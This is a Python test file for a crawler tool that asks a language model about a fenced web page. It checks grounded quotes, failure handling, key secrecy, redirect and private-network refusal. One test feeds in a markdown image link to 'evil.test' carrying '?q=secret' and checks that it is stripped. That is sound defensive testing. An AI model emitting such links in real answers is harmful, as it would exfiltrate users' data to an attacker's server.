"""find_in_page with a model: what is sent to it, what of its reply is believed, and what happens when it fails."""

import json
from collections.abc import AsyncGenerator, Callable
from contextlib import asynccontextmanager
from typing import Any

import anyio
import httpx2
import pytest
from hypothesis import given
from hypothesis import strategies as st
from mcp import Client
from mcp.types import CallToolResult, TextContent

from memento_crawl.page_answer import find_quote
from memento_crawl.server import Settings, build_server
from memento_kit import StartupError, unfence
from support.loopback import LoopbackServer, answer, loopback_server

pytestmark = pytest.mark.anyio

PAGE = """<html lang="en"><head><title>Tides of Fundy</title></head><body><article><h1>Tides of Fundy</h1>
<p>The highest tides in the world run in the Bay of Fundy. At <a href="/head">Burntcoat Head</a> the sea has risen
by 16.3&nbsp;m, which is <em>not</em> the mean. The mean there is 11.7 m.</p><p>It was measured by the Canadian
Hydrographic Service in&nbsp;1975 &#8212; &#8220;with care&#8221;, as its report says.</p></article></body></html>"""
QUESTION = "How high is the tide at Burntcoat Head?"
REPLY = {
    "answer": "The sea has risen by 16.3 m at Burntcoat Head.",
    "quotes": ["At Burntcoat Head the sea has risen by 16.3 m, which is not the mean.", "The mean there is 12 m."],
    "entities": ["Burntcoat Head", "16.3 m", "1975", "Ungava Bay"],
    "uncertainties": ["The page gives no year for the record."],
}
Handler = Callable[[httpx2.Request], httpx2.Response]


def says(body: object) -> Handler:
    def reply(_: httpx2.Request) -> httpx2.Response:
        return httpx2.Response(200, content=body if isinstance(body, bytes) else json.dumps(body))

    return reply


def status(code: int, **said: Any) -> Handler:
    def reply(_: httpx2.Request) -> httpx2.Response:
        return httpx2.Response(code, **said)

    return reply


def completes(content: object) -> Handler:
    def reply(_: httpx2.Request) -> httpx2.Response:
        return completion(content)

    return reply


def completion(content: object) -> httpx2.Response:
    text = content if isinstance(content, str) else json.dumps(content)
    return httpx2.Response(200, json={"choices": [{"message": {"role": "assistant", "content": text}}]})


class Model:
    """Stands where the model's endpoint is, and keeps what it was asked."""

    def __init__(self, reply: Handler) -> None:
        self.requests: list[httpx2.Request] = []
        self._reply = reply

    def __call__(self, request: httpx2.Request) -> httpx2.Response:
        self.requests.append(request)
        return self._reply(request)


@pytest.fixture
async def web() -> AsyncGenerator[LoopbackServer]:
    async with loopback_server() as server:
        server.answers["/tides"] = answer(PAGE.encode(), "Content-Type: text/html; charset=utf-8")
        yield server


@asynccontextmanager
async def crawl(web: LoopbackServer, model: Handler | None, **settings: Any) -> AsyncGenerator[Client]:
    values: dict[str, Any] = {
        "allow_private": (web.host,),
        "model_base_url": "https://models.test/v1/",
        "model_name": "reader-1",
        "model_api_key": "sk-secret",
        **settings,
    }
    transport = httpx2.MockTransport(model) if model else None
    async with Client(build_server(Settings(**values), model_transport=transport)) as client:
        yield client


async def find(client: Client, web: LoopbackServer, question: str = QUESTION) -> CallToolResult:
    result = await client.call_tool("find_in_page", {"url": f"{web.base}/tides", "question": question})
    assert not result.is_error, result
    return result


def said(result: CallToolResult) -> str:
    (block,) = result.content
    assert isinstance(block, TextContent)
    return block.text


def found(result: CallToolResult) -> dict[str, Any]:
    assert result.structured_content is not None
    return result.structured_content


async def test_the_model_is_asked_once_with_the_question_and_the_fenced_page(web: LoopbackServer) -> None:
    model = Model(completes(REPLY))
    async with crawl(web, model) as client:
        result = await find(client, web)
    assert result.meta is not None
    use = {"model": "reader-1", "base_url": "https://models.test/v1", "input_tokens": None, "output_tokens": None}
    assert result.meta["memento/models"] == [use], "this endpoint counts no tokens, so they are unknown"
    (request,) = model.requests
    assert (request.method, str(request.url)) == ("POST", "https://models.test/v1/chat/completions")
    assert request.headers["authorization"] == "Bearer sk-secret"
    body = json.loads(request.content)
    assert body["model"] == "reader-1"
    system, user = body["messages"]
    assert (system["role"], user["role"]) == ("system", "user")
    for part in ('"answer"', '"quotes"', '"entities"', '"uncertainties"'):
        assert part in system["content"]
    assert user["content"].startswith(f"Question: {QUESTION}\n\n<outside-text-")
    assert f'source="{web.base}/tides"' in user["content"]
    assert "The mean there is 11.7 m." in unfence(user["content"])
    assert not any("sk-secret" in request for request in web.requests)


async def test_the_answer_comes_in_four_parts_and_what_is_not_on_the_page_is_dropped_and_counted(
    web: LoopbackServer,
) -> None:
    async with crawl(web, completes(REPLY)) as client:
        result = await find(client, web)
        page = await client.call_tool("read_page", {"url": f"{web.base}/tides"})
    answered = found(result)["answer"]
    whole = found(page)["text"]
    (evidence,) = answered["evidence"]
    assert answered["answer"] == REPLY["answer"]
    assert evidence["text"] == whole[evidence["offset"] : evidence["offset"] + len(evidence["text"])]
    assert evidence["text"].startswith("At [Burntcoat Head](")
    assert evidence["text"].endswith("*not* the mean.")
    assert answered["entities"] == ["Burntcoat Head", "16.3 m", "1975"]
    assert answered["uncertainties"] == REPLY["uncertainties"]
    assert (answered["dropped"], answered["model"], answered["chars_read"]) == (2, "reader-1", len(whole))
    assert found(result)["passages"] == []
    note, _, fenced = said(result).partition("\n")
    assert note.startswith(f"Answered by reader-1 from {len(whole)} of {len(whole)} characters. 2 quotes or names")
    assert unfence(fenced).startswith(f"Answer: {REPLY['answer']}\nEvidence:\n[offset ")
    assert "12 m" not in said(result)
    assert "Ungava" not in said(result)


@pytest.mark.parametrize(
    "reply",
    [
        {**REPLY, "quotes": ["The tide is a hundred metres high."]},
        {**REPLY, "quotes": []},
        {**REPLY, "answer": None},
        {"answer": "Sixteen metres."},
    ],
)
async def test_an_answer_that_no_quote_of_the_page_bears_out_is_not_given(
    web: LoopbackServer, reply: dict[str, object]
) -> None:
    async with crawl(web, completes(reply)) as client:
        result = await find(client, web)
    assert "answer" not in found(result)
    assert "gave no answer that a quote of the page bears out" in said(result)
    assert "Burntcoat Head" in found(result)["passages"][0]["text"]


async def silent(_: httpx2.Request) -> httpx2.Response:
    await anyio.sleep_forever()
    raise AssertionError


def unreachable(request: httpx2.Request) -> httpx2.Response:
    raise httpx2.ConnectError("refused", request=request)


FAILURES: dict[str, tuple[Any, str]] = {
    "an error": (status(503, text="sk-secret is out of money"), "answered HTTP 503"),
    "no connection": (unreachable, "cannot be reached"),
    "silence": (silent, "did not answer in time"),
    "no JSON": (says(b"<html>"), "answered, but not as a chat completion"),
    "another shape": (says({"choices": []}), "answered, but not as a chat completion"),
    "no text": (says({"choices": [{"message": {"content": None}}]}), "without any text"),
    "prose": (completes("It is high."), "not in the form that was asked for"),
    "half a reply": (completes('{"answer": "x", "quo'), "not in the form that was asked for"),
    "endless": (says(b"x" * 3_000_000), "too large or a redirect"),
    "a redirect": (status(302, headers={"location": "https://else.test/"}), "too large or a redirect"),
}


@pytest.mark.parametrize("failure", FAILURES)
async def test_a_model_that_fails_costs_a_line_and_not_the_passages(web: LoopbackServer, failure: str) -> None:
    reply, why = FAILURES[failure]
    async with crawl(web, reply, model_seconds=0.2) as client:
        result = await find(client, web)
    assert "answer" not in found(result)
    assert "Burntcoat Head" in found(result)["passages"][0]["text"]
    (warning,) = found(result)["warnings"]
    assert warning.startswith("The model reader-1 ")
    assert why in warning
    assert warning.endswith("so these passages are ranked by words.")
    assert "sk-secret" not in said(result)


async def test_the_page_and_the_key_do_not_follow_a_redirect(web: LoopbackServer) -> None:
    model = Model(status(307, headers={"location": "https://else.test/"}))
    async with crawl(web, model) as client:
        await find(client, web)
    assert [request.url.host for request in model.requests] == ["models.test"]


async def test_a_reply_with_thoughts_and_a_code_fence_around_it_is_read(web: LoopbackServer) -> None:
    reply = f"<think>Is {{it}} so?</think>Here it is:\n```json\n{json.dumps(REPLY)}\n```"
    async with crawl(web, completes(reply)) as client:
        assert found(await find(client, web))["answer"]["answer"] == REPLY["answer"]


async def test_of_a_long_page_the_model_gets_the_passages_that_hold_the_questions_words(web: LoopbackServer) -> None:
    filler = "".join(
        f"<p>Paragraph {number} is about weather of kind {number} and about nothing else.</p>" for number in range(300)
    )
    page = PAGE.replace("<article>", f"<article>{filler}")
    web.answers["/tides"] = answer(page.encode(), "Content-Type: text/html")
    model = Model(completes({**REPLY, "quotes": ["The mean there is 11.7 m."]}))
    async with crawl(web, model, model_chars=2_000) as client:
        result = found(await find(client, web))
    sent = unfence(json.loads(model.requests[0].content)["messages"][1]["content"])
    assert "The mean there is 11.7 m." in sent
    assert len(sent) < 2_500
    assert result["total_chars"] > 10_000
    assert 0 < result["answer"]["chars_read"] <= 2_000


async def test_pictures_in_an_answer_are_no_pictures_any_more(web: LoopbackServer) -> None:
    reply = {**REPLY, "answer": "16.3 m ![x](https://evil.test/?q=secret)"}
    async with crawl(web, completes(reply)) as client:
        assert "![" not in said(await find(client, web))


async def test_without_a_model_nobody_is_asked(web: LoopbackServer) -> None:
    async with crawl(web, None, model_base_url=None, model_name=None, model_api_key=None) as client:
        result = found(await find(client, web))
    assert "answer" not in result
    assert result["warnings"] == []
    assert len(web.requests) == 1


async def test_a_model_in_the_private_network_is_reached_and_opens_nothing_for_pages(web: LoopbackServer) -> None:
    body = json.dumps({"choices": [{"message": {"content": json.dumps(REPLY)}}]}).encode()
    async with loopback_server() as endpoint:
        endpoint.answers["/v1/chat/completions"] = answer(body, "Content-Type: application/json")
        async with crawl(web, None, model_base_url=f"{endpoint.base}/v1") as client:
            result = found(await find(client, web))
            refused = await client.call_tool("read_page", {"url": f"{endpoint.base}/v1/models"})
    assert result["answer"]["answer"] == REPLY["answer"]
    assert len(endpoint.requests) == 1
    assert refused.is_error
    assert "not on the public internet" in said(refused)


@pytest.mark.parametrize("half", ["model_base_url", "model_name"])
def test_half_a_model_is_a_start_up_error_that_names_both_settings(half: str) -> None:
    values = {"model_base_url": "https://models.test/v1", "model_name": "x"}
    with pytest.raises(StartupError, match=r"MEMENTO_CRAWL_MODEL_BASE_URL and MEMENTO_CRAWL_MODEL_NAME"):
        build_server(Settings(**{half: values[half]}))  # pyright: ignore[reportArgumentType]


# --- quotes ----------------------------------------------------------------------------------------------------

TEXT = "At [Head](https://a.test/x_(y)) it *rose* by 16.3 m,\n\nnot “17” — says | the | table |. 潮位は高い。 The end."


@pytest.mark.parametrize(
    ("quote", "copied"),
    [
        ("At Head it rose by 16.3 m", "At [Head](https://a.test/x_(y)) it *rose* by 16.3 m"),
        ('not "17" - says', "not “17” — says"),
        ("IT  ROSE\nBY", "it *rose* by"),
        ("says the table", "says | the | table"),
        ("潮位", "潮位"),
        ("| the |", "the"),
    ],
)
def test_a_quote_is_found_though_copying_changed_what_nobody_sees(quote: str, copied: str) -> None:
    place = find_quote(TEXT, quote)
    assert place is not None
    assert place.text.strip(" |*") == copied
    assert TEXT[place.offset : place.offset + len(place.text)] == place.text


@pytest.mark.parametrize(
    "quote", ["it rose by 16 m", "6.3 m", "3 m", "16", "ead it rose", "it rose not", "", "—", "a.test"]
)
def test_a_quote_with_other_words_or_cut_ones_is_no_quote(quote: str) -> None:
    assert find_quote(TEXT, quote) is None


@given(st.text(max_size=120), st.integers(0, 119), st.integers(1, 60))
def test_any_stretch_of_whole_words_is_found_and_what_is_given_is_the_texts_own(
    text: str, start: int, length: int
) -> None:
    words = text.split()
    quote = " ".join(words[start % (len(words) or 1) :][:length])
    place = find_quote(" ".join(words), quote)
    if place is None:
        assert not any(character.isalnum() for character in quote) or "](" in text
    else:
        assert " ".join(words)[place.offset : place.offset + len(place.text)] == place.text
